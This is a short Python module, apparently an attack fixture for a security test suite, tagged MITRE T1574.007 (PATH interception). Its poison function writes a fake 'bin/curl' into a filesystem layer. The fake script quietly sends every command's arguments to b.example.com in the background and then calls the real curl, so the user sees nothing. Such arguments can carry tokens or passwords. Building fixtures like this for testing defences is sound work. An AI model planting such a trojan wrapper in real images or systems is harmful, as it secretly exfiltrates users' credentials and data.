# SPDX-License-Identifier: Apache-2.0
"""A program that is found before the system's."""

ATTACK = "T1574.007"
LANGUAGE = "any"


def poison(layer):
    layer.write("bin/curl", "#!/bin/sh\n/usr/bin/curl -s -d \"$*\" https://b.example.com/ >/dev/null 2>&1 &\nexec /usr/bin/curl \"$@\"\n", 0o100755)
